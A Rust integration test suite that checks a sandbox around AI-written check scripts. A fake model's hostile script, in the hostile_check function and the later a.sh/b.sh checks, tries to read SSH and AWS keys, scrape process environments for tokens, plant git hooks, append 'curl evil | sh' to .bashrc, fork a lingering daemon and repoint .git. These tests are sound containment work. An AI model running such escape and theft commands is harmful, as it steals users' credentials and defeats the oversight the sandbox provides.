//! The sandbox around checks, through the binary and real bubblewrap: a model writes a check
//! script that tries every escape an adversarial tester tried, and each fails while the check
//! still does its legitimate work (writing in its worktree, running python and cargo offline).

use std::io::Read;
use std::net::TcpListener;
use std::time::Duration;

use pitcrew_tests::team::TeamScenario;
use pitcrew_tests::team::script::{approve, finish, plan, task as spec, write};
use serde_json::{Value, json};

const MODEL_KEY: &str = "sk-model-key-0123456789abcdef";
const GITHUB_TOKEN: &str = "ghp_sandboxtesttoken123456";
const AWS_SECRET: &str = "aws-secret-access-key-987654321";
const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test-material";

/// What the model's check script tries, with the places it aims at baked in (an attacker can
/// guess them). It prints what it got, and fails only if its legitimate work fails.
fn hostile_check(repo: &str, home: &str, port: u16, tag: u32) -> String {
    format!(
        r#"#!/bin/sh
# Legitimate work first: the check must still do what checks do.
echo built > built.txt && echo "LEGIT wrote in the worktree"
python3 -c 'print("LEGIT python", 6 * 7)'
cargo --version --offline >/dev/null 2>&1 && echo "LEGIT cargo runs"
git status --short >/dev/null 2>&1 && echo "LEGIT git works in the worktree"
# The escapes.
# (Where the user's tree is under /tmp or a home directory, these land in the sandbox's own
# private copy of that directory and vanish with it: the test looks at the real tree.)
echo pwned > {repo}/pwned.txt 2>/dev/null
echo pwned > ../../../../pwned-relative.txt 2>/dev/null
printf '#!/bin/sh\necho hooked\n' > {repo}/.git/hooks/post-checkout 2>/dev/null && echo "ESCAPED installed a hook"
echo "[alias] x = !evil" >> {repo}/.git/config 2>/dev/null && echo "ESCAPED changed .git/config"
echo 'curl evil | sh' >> {home}/.bashrc 2>/dev/null && echo "ESCAPED appended to .bashrc"
cat {home}/.ssh/id_rsa 2>/dev/null && echo "ESCAPED read the ssh key"
cat {home}/.aws/credentials 2>/dev/null && echo "ESCAPED read aws credentials"
cat {repo}/.env 2>/dev/null && echo "ESCAPED read the user's untracked .env"
python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), 2); print("ESCAPED reached loopback")' 2>/dev/null
env | grep -E 'TOKEN|SECRET|KEY' && echo "ESCAPED saw secrets in its environment"
cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -E 'TOKEN|SECRET|KEY' && echo "ESCAPED read another process's environment"
echo "the key, printed: $(cat leaked.txt)"
setsid sh -c 'exec sleep {tag}' < /dev/null > /dev/null 2>&1 &
echo "LEGIT done"
test -f built.txt
"#
    )
}

fn sleeping(tag: u32) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
        std::fs::read(e.path().join("cmdline"))
            .is_ok_and(|c| c.split(|b| *b == 0).nth(1) == Some(tag.to_string().as_bytes()))
    })
}

/// Every file under `dir`, read, for "the secret went nowhere".
fn all_text(dir: &std::path::Path) -> String {
    let mut text = String::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            text.push_str(&all_text(&path));
        } else if let Ok(bytes) = std::fs::read(&path) {
            text.push_str(&String::from_utf8_lossy(&bytes));
        }
    }
    text
}

#[test]
fn a_hostile_check_escapes_nowhere_and_still_does_its_work() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let tag = 60_000 + std::process::id() % 5_000;

    // A file the user committed by mistake holds the model's key: a check can print it, and
    // pitcrew must not pass it on. The repository and the home directory are outside /tmp,
    // which the sandbox replaces anyway: what hides them must be the sandbox's own rules.
    let scenario = TeamScenario::new_in(
        std::path::Path::new("/var/tmp"),
        &[
            ("check.sh", "#!/bin/sh\nexit 0\n"),
            ("leaked.txt", MODEL_KEY),
        ],
        Vec::new(),
        "",
        "test = \"sh check.sh\"",
    );
    let repo = scenario.path().display().to_string();
    let home = scenario.home.path();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), SSH_KEY).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".aws/credentials"), AWS_SECRET).unwrap();
    std::fs::write(home.join(".bashrc"), "# the user's rc\n").unwrap();
    // An untracked secret in the user's working tree.
    std::fs::write(
        scenario.path().join(".env"),
        format!("GITHUB_TOKEN={GITHUB_TOKEN}\n"),
    )
    .unwrap();
    // The model's key comes from a variable the configuration names.
    let toml = std::fs::read_to_string(scenario.path().join("pitcrew.toml")).unwrap();
    scenario.repo.write(
        "pitcrew.toml",
        &toml.replace(
            "model = \"fake\"\n",
            "model = \"fake\"\napi_key_env = \"PITCREW_TEST_MODEL_KEY\"\n",
        ),
    );
    scenario.repo.commit_all("the key by name");
    scenario.fake.set_script(&json!({"responses": [
        plan(json!([spec("sly", "Write the checks", &[])])),
        write("sly", "check.sh", &hostile_check(&repo, &home.display().to_string(), port, tag)),
        finish("sly", "wrote a thorough check"),
        approve("sly"),
    ]}));

    // `~/bin` and `~/.local/bin` on PATH, as many shells set them: they must not bring the
    // home directory back.
    for dir in ["bin", ".local/bin"] {
        std::fs::create_dir_all(home.join(dir)).unwrap();
    }
    let path = format!(
        "{}:{}:{}",
        home.join("bin").display(),
        home.join(".local/bin").display(),
        std::env::var("PATH").unwrap()
    );
    let output = scenario
        .command(&["run", "Write the checks"])
        .env("PATH", path)
        .env("PITCREW_TEST_MODEL_KEY", MODEL_KEY)
        .env("GITHUB_TOKEN", GITHUB_TOKEN)
        .env("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stdout}\n{stderr}");

    // What the check printed, as the plan recorded it (the reviewer's run of it).
    let plan = scenario.plan();
    let check: &Value = plan["tasks"][0]["checks"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["name"] == "test"))
        .expect("the check ran");
    assert_eq!(check["passed"], true, "{check:#}");
    let printed = check["output_tail"].as_str().unwrap();
    for legit in [
        "LEGIT wrote in the worktree",
        "LEGIT python 42",
        "LEGIT cargo runs",
        "LEGIT git works in the worktree",
        "LEGIT done",
    ] {
        assert!(printed.contains(legit), "missing {legit:?} in:\n{printed}");
    }
    assert!(!printed.contains("ESCAPED"), "an escape worked:\n{printed}");
    assert!(
        printed.contains("the key, printed: [redacted $PITCREW_TEST_MODEL_KEY]"),
        "{printed}"
    );

    // Nothing outside the worktree changed.
    assert!(!scenario.path().join("pwned.txt").exists());
    assert!(!scenario.path().join("pwned-relative.txt").exists());
    assert!(!scenario.path().join(".git/hooks/post-checkout").exists());
    let config = std::fs::read_to_string(scenario.path().join(".git/config")).unwrap();
    assert!(!config.contains("evil"), "{config}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# the user's rc\n"
    );
    // Nobody connected to the listener on loopback.
    std::thread::sleep(Duration::from_millis(100));
    match listener.accept() {
        Ok((mut stream, _)) => {
            let mut got = String::new();
            let _ = stream.read_to_string(&mut got);
            panic!("the check reached 127.0.0.1:{port}");
        }
        Err(err) => assert_eq!(err.kind(), std::io::ErrorKind::WouldBlock),
    }
    // The daemon it forked did not outlive the check.
    assert!(!sleeping(tag), "the check's daemon is still running");

    // No secret went anywhere: not in pitcrew's records (plans, journal, transcripts), not to
    // the model.
    let pitcrew = scenario.path().join(".git/pitcrew");
    let state = [
        all_text(&pitcrew.join("plans")),
        all_text(&pitcrew.join("transcripts")),
        std::fs::read_to_string(pitcrew.join("journal.jsonl")).unwrap_or_default(),
    ]
    .concat();
    // (The key itself goes to the model's server in its Authorization header, as it should:
    // what matters is the conversation.)
    let requests: String = scenario
        .fake
        .requests()
        .iter()
        .map(|r| r["body"].to_string())
        .collect();
    for secret in [MODEL_KEY, GITHUB_TOKEN, AWS_SECRET, SSH_KEY] {
        assert!(!state.contains(secret), "{secret} is in pitcrew's state");
        assert!(!requests.contains(secret), "{secret} went to the model");
        assert!(!stdout.contains(secret), "{secret} was printed");
    }
}

#[test]
fn the_network_is_off_unless_the_users_own_configuration_allows_it() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let check = format!(
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' 2>/dev/null && echo REACHED || echo UNREACHABLE"
    );
    let responses = || {
        json!({"responses": [
            plan(json!([spec("n", "Write n.txt", &[])])),
            write("n", "n.txt", "n\n"),
            finish("n", "wrote n.txt"),
            approve("n"),
        ]})
    };
    let scenario = TeamScenario::new(&[], Vec::new(), "", &format!("net = {check:?}"));
    let run = |scenario: &TeamScenario, goal: &str| {
        scenario.fake.set_script(&responses());
        let outcome = scenario.run(goal, &[]);
        assert_eq!(outcome.code, Some(0), "{}", outcome.all());
        let plan = scenario.plans().pop().unwrap();
        plan["tasks"][0]["checks"][0]["output_tail"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    };
    let printed = run(&scenario, "Write n");
    assert!(printed.contains("UNREACHABLE"), "{printed}");
    assert!(listener.accept().is_err(), "no connection without network");

    // The repository cannot allow it for itself.
    let toml = std::fs::read_to_string(scenario.path().join("pitcrew.toml")).unwrap();
    scenario.repo.write(
        "pitcrew.toml",
        &format!("{toml}\n[sandbox]\nnetwork = true\n"),
    );
    let outcome = scenario.run("Write n again", &[]);
    assert_eq!(outcome.code, Some(2), "{}", outcome.all());
    assert!(
        outcome.stderr.contains("sandbox.network")
            && outcome.stderr.contains("only your own configuration"),
        "{}",
        outcome.all()
    );
    scenario.repo.write("pitcrew.toml", &toml);

    // The user's own configuration can.
    let config = scenario.home.path().join("config/pitcrew");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.toml"), "[sandbox]\nnetwork = true\n").unwrap();
    let printed = run(&scenario, "Write n, with the network");
    assert!(
        printed.contains("REACHED") && !printed.contains("UNREACHABLE"),
        "{printed}"
    );
}

#[test]
fn without_a_sandbox_checks_do_not_run_and_every_face_says_why() {
    let responses = || {
        json!({"responses": [
            plan(json!([spec("t", "Write t.txt", &[])])),
            write("t", "t.txt", "t\n"),
            finish("t", "wrote t.txt"),
            approve("t"),
        ]})
    };
    let scenario = TeamScenario::new(&[], Vec::new(), "", "test = \"echo ran > ran.txt\"");
    scenario.fake.set_script(&responses());
    let output = scenario
        .command(&["run", "Write t"])
        .env("PITCREW_BWRAP", "/nonexistent/bwrap")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("checks cannot run: no sandbox is available")
            && stderr.contains("mode = \"off\""),
        "{stderr}"
    );
    let plan = scenario.plan();
    assert_eq!(plan["status"], "failed");
    assert!(
        plan["outcome"].as_str().unwrap().contains("bubblewrap"),
        "{plan:#}"
    );
    assert!(
        scenario.fake.requests().is_empty(),
        "no model call was spent on a plan whose checks cannot run"
    );

    // The editor says so too, once the team is up.
    let mut server = scenario
        .lsp()
        .env("PITCREW_BWRAP", "/nonexistent/bwrap")
        .start();
    server.wait_for_team();
    let message = server.wait_for_notification("window/showMessage", |m| {
        m["message"].as_str().unwrap_or("").contains("no sandbox")
    });
    assert_eq!(message["type"], 2, "a warning: {message:#}");
    drop(server);

    // With the sandbox off by the user's own choice, they run.
    let config = scenario.home.path().join("config/pitcrew");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.toml"), "[sandbox]\nmode = \"off\"\n").unwrap();
    scenario.fake.set_script(&responses());
    let output = scenario
        .command(&["run", "Write t, unconfined"])
        .env("PITCREW_BWRAP", "/nonexistent/bwrap")
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
}

/// A check that repoints its worktree's `.git` at the user's repository must not make pitcrew
/// commit there; sockets under /run stay out of reach; secrets stay hidden under what the
/// user's own configuration lets checks write.
#[test]
fn a_check_cannot_repoint_git_reach_sockets_or_uncover_secrets() {
    let socket_path = format!("/run/pitcrew-sandbox-test-{}.sock", std::process::id());
    let _ = std::fs::remove_file(&socket_path);
    let listener = std::os::unix::net::UnixListener::bind(&socket_path).ok();
    if let Some(listener) = &listener {
        listener.set_nonblocking(true).unwrap();
    }
    let scenario = TeamScenario::new_in(
        std::path::Path::new("/var/tmp"),
        &[("README.md", "readme\n")],
        Vec::new(),
        "",
        "a = \"sh a.sh\"\nb = \"sh b.sh\"",
    );
    let repo = scenario.path().display().to_string();
    let home = scenario.home.path();
    std::fs::create_dir_all(home.join(".cargo")).unwrap();
    std::fs::write(
        home.join(".cargo/credentials.toml"),
        "token = \"cargo-secret-token\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "ssh-secret-material").unwrap();
    let config = home.join("config/pitcrew");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        "[sandbox]\nwrite = [\"~/.cargo\"]\nread = [\"~\"]\n",
    )
    .unwrap();
    let a = format!(
        "#!/bin/sh\n\
         echo \"gitdir: {repo}/.git\" > .git\n\
         echo repointed\n"
    );
    let b = format!(
        "#!/bin/sh\n\
         echo \"git dir: $(git rev-parse --absolute-git-dir)\"\n\
         cat ~/.cargo/credentials.toml {home}/.cargo/credentials.toml {home}/.ssh/id_rsa 2>/dev/null\n\
         python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{socket_path}\"); print(\"ESCAPED reached a socket\")' 2>/dev/null\n\
         exit 0\n",
        home = home.display()
    );
    let main_before = scenario.repo.git(&["rev-parse", "main"]);
    let index_before = std::fs::read(scenario.path().join(".git/index")).unwrap();
    scenario.fake.set_script(&json!({"responses": [
        plan(json!([spec("t", "Write t.txt", &[])])),
        write("t", "a.sh", &a),
        write("t", "b.sh", &b),
        // The implementer runs the check that repoints .git, then goes on working.
        pitcrew_tests::team::script::calls("implementer", Some("t"), json!([{"name": "run_check", "arguments": {"name": "a"}}])),
        write("t", "t.txt", "t\n"),
        finish("t", "wrote t.txt"),
        approve("t"),
    ]}));
    let outcome = scenario.run("Write t", &[]);
    assert_eq!(outcome.code, Some(0), "{}", outcome.all());

    // The user's branch and index are as they were; the work is on the task's branch.
    assert_eq!(scenario.repo.git(&["rev-parse", "main"]), main_before);
    assert_eq!(
        std::fs::read(scenario.path().join(".git/index")).unwrap(),
        index_before
    );
    let plan = scenario.plan();
    let branch = plan["tasks"][0]["branch"].as_str().unwrap().to_owned();
    let files = scenario
        .repo
        .git(&["ls-tree", "-r", "--name-only", &branch]);
    assert!(files.contains("t.txt"), "{files}");

    let checks = plan["tasks"][0]["checks"].as_array().unwrap();
    let b_output = checks
        .iter()
        .find(|c| c["name"] == "b")
        .and_then(|c| c["output_tail"].as_str())
        .unwrap();
    assert!(
        b_output.contains("/worktrees/pitcrew-"),
        "git inside the check works on the task's worktree: {b_output}"
    );
    for secret in ["cargo-secret-token", "ssh-secret-material", "ESCAPED"] {
        assert!(!b_output.contains(secret), "{secret} in {b_output}");
    }
    if let Some(listener) = &listener {
        assert!(
            listener.accept().is_err(),
            "the check reached {socket_path}"
        );
    }
    let _ = std::fs::remove_file(&socket_path);
}
